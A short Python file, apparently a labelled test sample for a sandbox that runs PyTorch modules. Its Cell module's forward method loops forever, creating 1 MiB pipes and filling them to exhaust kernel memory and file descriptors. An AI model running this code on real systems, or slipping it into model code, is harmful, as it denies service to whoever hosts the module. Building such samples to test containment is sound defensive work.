"""Fill pipes, whose memory is the kernel's.

kind: exhausting
attacks: cell
mentions: OSError | PermissionError
"""

import fcntl
import os

import torch
from torch import nn


class Cell(nn.Module):
    def __init__(self, size):
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(size, size))

    def forward(self, x):
        ends = []
        while True:
            reader, writer = os.pipe()
            os.set_blocking(writer, False)
            fcntl.fcntl(writer, 1031, 2**20)  # F_SETPIPE_SZ
            os.write(writer, bytes(2**20))
            ends += [reader, writer]
